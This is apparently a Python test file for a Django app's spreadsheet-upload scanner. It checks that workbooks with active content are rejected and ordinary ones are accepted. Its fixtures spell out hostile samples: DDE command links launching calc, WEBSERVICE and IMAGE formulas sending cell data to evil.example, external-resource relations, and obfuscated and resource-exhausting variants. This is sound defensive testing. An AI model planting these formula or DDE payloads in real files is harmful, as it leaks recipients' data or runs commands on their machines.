"""Workbooks: what one fetches, carries or runs as it opens, however it is written; what one costs to read.

Elsewhere: files under a false name or name, documents, and who waits for them (test_files.py); bombs (tests/core/test_uploads.py).
"""

import io
import zipfile
from collections.abc import Mapping
from typing import Any
from uuid import uuid4
from xml.sax.saxutils import escape

import openpyxl
import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.worksheet.table import Table

from clauses.procurement.models import AdviceRequest
from inclusiv.core import uploads
from inclusiv.records.models import StoredFile
from tests.attacks.conftest import Attacker
from tests.uploads import picture, workbook
from tests.world import World

RELATION = '<Relationships><Relationship Id="r" Type="http://x/relationships/{kind}" Target="{to}" {mode}/></Relationships>'
OUTSIDE = RELATION.format(kind="image", to="file:///evil.example/a.png", mode='TargetMode="External"')
COMMAND = RELATION.format(kind="externalLink", to="autre/part1.xml", mode="")
LIVE_SHEETS = {
    "a command under another name": {
        "xl/_rels/workbook.xml.rels": COMMAND,
        "xl/autre/part1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    },
    "its kind, said otherwise": {"xl/_rels/workbook.xml.rels": COMMAND.replace("L", "&#76;")},
    "an object under another name": {
        "xl/worksheets/_rels/sheet1.xml.rels": RELATION.format(
            kind="oleObject", to="../autre/o.bin", mode=""
        ),
    },
    "macros under another name": {
        "xl/_rels/workbook.xml.rels": RELATION.format(kind="vbaProject", to="autre.bin", mode=""),
    },
    "relations in another writing": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE.encode("utf-16-be")},
    "a picture from elsewhere": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE},
    "the same, said otherwise": {"xl/drawings/_rels/drawing1.xml.rels": OUTSIDE.replace("E", "&#69;", 1)},
    "data from elsewhere": {"xl/connections.xml": "<connections/>"},
    "old macros": {"xl/macrosheets/sheet1.xml": "<x/>"},
    "buttons": {"customUI/customUI.xml": "<x/>"},
    "relations that nobody can read": {"xl/_rels/x.rels": b"\xff\xfe<\x00"},
    "relations without end": {"xl/_rels/x.rels": b" " * (2 << 20)},
}


@pytest.mark.parametrize("parts", LIVE_SHEETS.values(), ids=LIVE_SHEETS.keys())
def test_to_send_a_workbook_that_does_something_as_it_opens(
    world: World, browser: Attacker, parts: dict[str, str | bytes]
) -> None:
    """What it fetches tells where it was opened, and by whom: links that one clicks are all that it may hold."""
    link = RELATION.format(kind="hyperlink", to="https://www.example.org", mode='TargetMode="External"')
    books: dict[str, Mapping[str, str | bytes]] = {
        "plain": {"xl/worksheets/_rels/sheet1.xml.rels": link},
        "live": parts,
    }
    kept = StoredFile.objects.count()
    address = reverse("procurement:ask-advice-on", args=[world.own.draft.pk])
    AdviceRequest.objects.all().delete()
    browser.acting(world.cast.buyer)
    for name, extra in reversed(books.items()):
        paper = SimpleUploadedFile("besoin.xlsx", workbook_with(extra))
        answer = browser.post(address, {"submission": str(uuid4()), "question": name, "piece_1": paper})
        assert answer.status_code == (302 if name == "plain" else 422), answer.said
    assert StoredFile.objects.count() == kept + 1


FETCHING = {
    "an address": '<f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f>',
    "a picture": '<f>IF(1,_xlfn.IMAGE("http://evil.example/a.png"),"")</f>',
    "a command": "<f>cmd|'/c calc'!A0</f>",
    "in pieces": '<f>WEB<!-- x -->SERV&#73;CE<![CDATA[(]]>"http://evil.example")</f>',
    "another prefix": '<x:f xmlns:x="y">webservice ("http://evil.example")</x:f>',
    "a name": '<definedName name="n">RTD("a","b","c")</definedName>',
}
HARMLESS = '<f>SUM(A1:A9)&amp;"IMAGE(|"&amp;\'Image (2)\'!B1</f><t>=WEBSERVICE("http://evil.example")</t>'


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/autre.bin"])
@pytest.mark.parametrize("written", FETCHING.values(), ids=FETCHING.keys())
def test_to_send_a_workbook_whose_formula_asks_something_of_elsewhere(written: str, part: str) -> None:
    """Computed at whoever opens it, it tells where and by whom, with the cells beside it; words in a cell do nothing."""
    for encoding in ("utf-8", "utf-16"):
        with pytest.raises(uploads.Unwelcome):
            uploads.examined(workbook_with({part: f"<c>{written}</c>".encode(encoding)}), kind="xlsx")
    plain = workbook_with({part: f"<c>{HARMLESS}</c>", "xl/media/a.png": b"\x89PNG\r\n<f>RTD("})
    assert uploads.examined(plain, kind="xlsx") == plain


WRITTEN_OTHERWISE = {
    "of Windows": '<?xml version="1.0" encoding="windows-1252"?><c>é{}</c>'.encode("cp1252"),
    "that says to be another": b'<?xml version="1.0" encoding="utf-7"?><c>{}</c>',
    "of its own words": b"<!--"
    + b"x" * 5000
    + b'--><!DOCTYPE c [<!ENTITY w "WEBSERVICE(">]><c><f>&w;"http://evil.example")</f></c>',
    "that no reader knows": "<c>{}</c>".encode("utf-32"),
    "of a prefix that nothing binds": b"<c><x:f>1</x:f>{}</c>",
}


@pytest.mark.parametrize("written", WRITTEN_OTHERWISE.values(), ids=WRITTEN_OTHERWISE.keys())
def test_to_send_a_workbook_whose_formula_is_in_another_writing(written: bytes) -> None:
    """In letters that a reader of spreadsheets knows, or behind a word that the part defines far from its beginning."""
    part = written.replace(b"{}", b'<f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f>')
    with pytest.raises(uploads.Unwelcome):
        uploads.examined(workbook_with({"xl/worksheets/sheet1.xml": part}), kind="xlsx")


def test_to_send_a_workbook_that_holds_one_part_twice() -> None:
    """Which of the two a spreadsheet opens, nobody knows: names are the same whatever their capitals."""
    with pytest.raises(uploads.Unwelcome):
        uploads.examined(workbook_with({"xl/a.xml": "<x/>", "xl/A.xml": "<x/>"}), kind="xlsx")


def workbook_with(parts: Mapping[str, str | bytes]) -> bytes:
    """Return a workbook with parts of one's own."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in ("[Content_Types].xml", "xl/workbook.xml"):
            archive.writestr(name, "<x/>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


HEAD = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PICTURE = "xl/drawings/_rels/drawing1.xml.rels"
BOOK = "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
STRANGE = {
    "> before the mode": (
        PICTURE,
        f'{HEAD}<Relationship Id="r1" Target="http://evil.example/a.png?&gt;" Type="{KIND}image" TargetMode="External"/></Relationships>',
    ),
    "a raw >": (
        PICTURE,
        f'{HEAD}<Relationship Id="r1" Target="file:///\\\\evil.example\\a.png?>" Type="{KIND}image" TargetMode="External"/></Relationships>',
    ),
    "a command behind a >": (
        BOOK,
        f'{HEAD}<Relationship Id="r1" Target="autre/a&gt;b.xml" Type="{KIND}externalLink"/></Relationships>',
    ),
    "an object behind a >": (
        "xl/worksheets/_rels/sheet1.xml.rels",
        f'{HEAD}<Relationship Id="r1" Target="../autre/a&gt;b.bin" Type="{KIND}oleObject"/></Relationships>',
    ),
    "a prefix with a dash": (
        PICTURE,
        f'<a-b:Relationships xmlns:a-b="x"><a-b:Relationship Id="r1" Type="{KIND}image" Target="http://evil.example/a.png" TargetMode="External"/></a-b:Relationships>',
    ),
    "a kind told within the address": (
        PICTURE,
        f"""{HEAD}<Relationship Id="r1" Target="http://evil.example/?Type='a/hyperlink'" Type="{KIND}image" TargetMode="External"/></Relationships>""",
    ),
    "a mode that nobody knows": (
        PICTURE,
        f'{HEAD}<Relationship Id="r1" Target="http://evil.example" Type="{KIND}image" TargetMode="external"/></Relationships>',
    ),
    "a mode of another namespace": (
        PICTURE,
        f'{HEAD}<Relationship xmlns:x="x" Id="r1" Target="http://evil.example" Type="{KIND}image" x:TargetMode="External"/></Relationships>',
    ),
    "a kind that nobody knows": (
        BOOK,
        f'{HEAD}<Relationship Id="r1" Target="a.xml" Type="{KIND}externallinkpath"/></Relationships>',
    ),
    "relations in a part of another name": (
        "xl/_rels/workbook.xml.%72els",
        f'{HEAD}<Relationship Id="r1" Target="a.xml" Type="{KIND}vbaProject"/></Relationships>',
    ),
    "relations that do not end": (BOOK, HEAD),
    "relations with words of their own": (BOOK, '<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'),
    "a picture by the relation of a link": (
        "xl/drawings/drawing1.xml",
        f'<a:blip xmlns:a="a" xmlns:r="{KIND}" r:link="rId1"/>',
    ),
    "another file by the relation of a picture": (
        "xl/workbook2.xml",
        f'<x><externalReference xmlns:r="{KIND}" r:id="rId1"/></x>',
    ),
    "a format": (SHEET, "<c><cfvo type='formula' val='WEBSERVICE(A1)'/></c>"),
    "a column of a table": (
        "xl/tables/table1.xml",
        "<c><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></c>",
    ),
}


@pytest.mark.parametrize("part", STRANGE.values(), ids=STRANGE.keys())
def test_to_have_a_workbook_act_by_what_a_hasty_reader_passes_over(part: tuple[str, str]) -> None:
    with pytest.raises(uploads.Unwelcome):
        uploads.examined(workbook_with(dict([part])), kind="xlsx")


@pytest.mark.parametrize(
    "formula",
    [
        """SUM(T['#a])&_xlfn.WEBSERVICE("http://evil.example/?"&A1)&SUM(T['#b])""",
        """T[a']&RTD("a",,"b")&T['b]""",
        """T[a"b]&RTD("a",,A1)&T[c"d]""",
        "'a'&IMAGE(A1)&'b'",
        "'cmd'|' /C calc'!A0",
        "[1]Feuil1!A1",
        "[1]!total",
        "'http://evil.example/[x.xlsx]S'!A1",
        "'\\\\evil.example\\partage\\[x.xlsx]S'!A1",
        "'file:///x.ods'#$S.A1",
        'IMPORTXML("http://evil.example","//a")',
        '_xlfn.WEBSERVICE \n ("http://evil.example")',
        "MAP(A1:A2,_xleta.WEBSERVICE)",
        'EXEC("calc")',
        "A1]&'",
        "[[[a]]]",
    ],
)
def test_to_hide_in_a_formula_what_it_asks_for(formula: str) -> None:
    with pytest.raises(uploads.Unwelcome):
        uploads.examined(with_formula(formula), kind="xlsx")


@pytest.mark.parametrize(
    "formula",
    [
        "'Lot 1 | gros œuvre'!A1*2",
        "'L''image (2)'!B1+SUM('A:B'!C1)",
        '"IMAGE(|"&"a""b"&HYPERLINK("https://example.org","[ok]bravo!")',
        "T[Image (URL)]&T[[#This Row],[Prix | HT]]&T['#]",
        "[0]!total+RECALL(1)",
        'FILTERXML(A1,"//x")',
        "{1,2;3,4}",
        'IF(A1="\'",1,"[")',
    ],
)
def test_an_ordinary_formula_comes_through(formula: str) -> None:
    content = with_formula(formula)
    assert uploads.examined(content, kind="xlsx") == content


def with_formula(formula: str) -> bytes:
    """Return a workbook with one formula."""
    return workbook_with({SHEET: f"<c><f>{escape(formula)}</f></c>"})


def test_workbooks_as_their_makers_write_them_come_through() -> None:
    """With pictures, charts, comments, tables, links, formats and names: nothing of them is refused."""
    for content in (of_xlsxwriter(), of_openpyxl()):
        assert uploads.examined(content, kind="xlsx") == content


def of_xlsxwriter() -> bytes:
    """Return a workbook that holds what xlsxwriter knows to make."""
    file, drawn = io.BytesIO(), {"image_data": io.BytesIO(picture("PNG"))}
    with xlsxwriter.Workbook(file, {"use_future_functions": True}) as book:
        first, second = book.add_worksheet("Lot 1 | gros œuvre"), book.add_worksheet("Image (2)")
        first.insert_image("F1", "i.png", drawn | {"url": "https://example.org"})
        first.embed_image("G1", "j.png", drawn)
        first.set_header("&L&G", {"image_left": "i.png", "image_data_left": io.BytesIO(picture("PNG"))})
        first.write_url("H1", "https://example.org")
        first.write_url("H2", "internal:'Image (2)'!A1")
        first.write_comment("A1", "Bonjour")
        first.insert_checkbox("A40", True)
        columns = [{"header": "Image (URL)"}, {"header": "L'eau | [m3]", "formula": "=LEN([@[Image (URL)]])"}]
        second.add_table("A1:B5", {"columns": columns, "total_row": True})
        chart: Any = book.add_chart({"type": "column"})
        chart.add_series({"values": "='Lot 1 | gros œuvre'!$B$1:$B$9"})
        first.insert_chart("K1", chart)
        formula = {"criteria": ">", "type": "formula", "value": "=$B$1"}
        first.conditional_format("C1:C9", {"type": "icon_set", "icon_style": "3_arrows", "icons": [formula]})
        first.data_validation("D1", {"validate": "list", "source": "='Image (2)'!$A$1:$A$4"})
        first.add_sparkline("E1", {"range": "'Lot 1 | gros œuvre'!A1:C1"})
        second.write_dynamic_array_formula("J1", "=SORT(UNIQUE(A1:A4))")
        book.define_name("total", "=SUM('Lot 1 | gros œuvre'!$B$1:$B$9)")
        book.set_custom_property("Lot", "1")
    return file.getvalue()


def of_openpyxl() -> bytes:
    """Return a workbook that holds what openpyxl knows to make."""
    book, file = openpyxl.Workbook(), io.BytesIO()
    sheet: Any = book.active
    sheet.title = "Été d'ici"
    for row in (["n", "v"], ["a", 1], ["b", 2]):
        sheet.append(row)
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3))
    sheet.add_chart(chart, "E1")
    sheet.add_image(Image(io.BytesIO(picture("PNG"))), "H1")
    sheet.add_table(Table(displayName="T", ref="A1:B3"))
    sheet["A2"].comment = Comment("Bonjour", "Nadia")
    sheet["C1"] = "='Été d''ici'!B2"
    sheet["C2"].hyperlink = "https://example.org"
    book.create_chartsheet()
    book.save(file)
    return file.getvalue()


@pytest.mark.parametrize(
    "part",
    [b"<x>" + b"<f/>" * 3_000_000 + b"</x>", b"<x><f>" + b'""' * 3_000_000 + b"</f></x>"],
    ids=["elements", "texts"],
)
def test_to_keep_a_place_busy_by_a_workbook_of_nothing(part: bytes) -> None:
    """A few kilobytes that took twenty seconds of processor: they are read to a bound, and said to be too long."""
    with pytest.raises(uploads.Unwelcome, match="trop long à lire"):
        uploads.examined(workbook(parts={SHEET: part}), kind="xlsx")
